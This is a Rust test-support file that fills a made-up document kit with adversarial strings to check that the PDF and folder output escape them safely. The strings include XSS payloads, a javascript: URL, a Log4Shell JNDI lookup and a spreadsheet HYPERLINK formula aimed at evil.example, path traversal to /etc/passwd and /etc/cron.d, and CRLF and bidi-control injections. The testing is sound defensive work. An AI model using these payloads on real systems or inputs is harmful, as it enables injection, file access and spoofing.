//! A made-up kit as a creator has it: unpacked, with every file that its page names.

#[path = "../../src-tauri/crates/pdf/examples/made_up_kit/mod.rs"]
mod made_up_kit;

pub use made_up_kit::{drawn, sheet};

use std::fs;
use std::path::Path;
use troupe_pdf::{KitBlock, KitSheet, Language};

/// Writes a kit's files into a folder; those that kits share hold a stand-in.
pub fn unpacked(sheet: &KitSheet, folder: &Path) {
    let own = troupe_workspace::kit_files(sheet).expect("a kit can be made");
    let shared = sheet.sections.iter().flat_map(|section| &section.blocks).flat_map(|block| match block {
        KitBlock::Assets(files) => {
            files.iter().map(|file| (file.path.clone(), b"a stand-in".to_vec())).collect()
        }
        _ => Vec::new(),
    });
    for (path, content) in own.into_iter().chain(shared) {
        let path = folder.join(path);
        fs::create_dir_all(path.parent().expect("a file lies in a folder")).expect("a folder can be made");
        fs::write(path, content).expect("a file can be written");
    }
}

/// Texts as somebody writes them who wants to get out of a page, a sheet or a folder.
pub const HOSTILE: [&str; 14] = [
    "</style></title><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "<!-- ]]> --> <svg onload=alert(1)>",
    "&lt;b&gt; &amp; &#x202e;",
    "{{ title }} {% for one in all %} {# no #}",
    "#set text(red); $x^2$ *bold* _it_ @ref <label> `raw` \\u{41}",
    "red;background:url(https://evil.example/x)",
    "javascript:alert(1)",
    "\u{202e}gnp.exe\u{202c} \u{2066}x\u{2069} \u{0} \u{1b}[31m \u{7f} \u{fffe}",
    "../../etc/passwd",
    "שלום مرحبا 你好 👩\u{200d}👩\u{200d}👧 e\u{301}\u{301}\u{301}",
    "%s %n ${jndi:ldap://evil.example} =HYPERLINK(\"https://evil.example\")",
    "\r\n\r\nHTTP/1.1 200 OK\u{2028}\u{2029}",
];

/// The made-up kit with a text of strangers in every place, and places that lead out of the kit.
pub fn hostile(language: Language) -> KitSheet {
    let mut at = 0;
    let mut next = || {
        at += 1;
        format!("{} {}", at, HOSTILE[at % HOSTILE.len()])
    };
    let mut sheet = sheet(language);
    let long = "x".repeat(10_000);
    let damaged: std::sync::Arc<[u8]> =
        std::sync::Arc::from(&b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"[..]);
    sheet.title = next();
    sheet.brand = next();
    sheet.to = next();
    sheet.stamp = next();
    sheet.greeting = format!("{}\n\n{long}", next());
    sheet.contents = next();
    sheet.pdf = [next(), sheet.pdf[1].clone()];
    sheet.footer = next();
    sheet.accent = Some(HOSTILE[7].to_owned());
    if let Some(logo) = &mut sheet.logo {
        logo.bytes = damaged;
        logo.alt = next();
    }
    for section in &mut sheet.sections {
        section.heading = next();
        for block in &mut section.blocks {
            match block {
                KitBlock::Text(text) | KitBlock::Subheading(text) | KitBlock::Note(text) => *text = next(),
                KitBlock::List(all) => *all = HOSTILE.map(str::to_owned).to_vec(),
                KitBlock::Facts(rows) | KitBlock::Questions(rows) => {
                    rows.iter_mut().for_each(|row| *row = [next(), next()]);
                }
                KitBlock::Table { heads, rows } => {
                    heads.iter_mut().chain(rows.iter_mut().flatten()).for_each(|cell| *cell = next());
                }
                KitBlock::Copy { label, text, file } => {
                    (*label, *text) = (next(), HOSTILE.join("\n"));
                    *file = "../../up.txt".to_owned();
                }
                KitBlock::Code { code, notes } => {
                    *code = next();
                    notes.iter_mut().for_each(|note| *note = next());
                }
                KitBlock::Link { label, url, aloud, file } => {
                    (*label, *url, *aloud) = (next(), HOSTILE[8].to_owned(), next());
                    *file = "/etc/cron.d/x.png".to_owned();
                }
                KitBlock::Colours(rows) => {
                    rows.iter_mut().for_each(|row| *row = [next(), HOSTILE[7].to_owned()])
                }
                KitBlock::Assets(files) => {
                    for file in files {
                        (file.name, file.facts, file.licence) = (next(), next(), next());
                        if let Some(picture) = &mut file.picture {
                            picture.alt = next();
                        }
                    }
                }
            }
        }
    }
    sheet
}
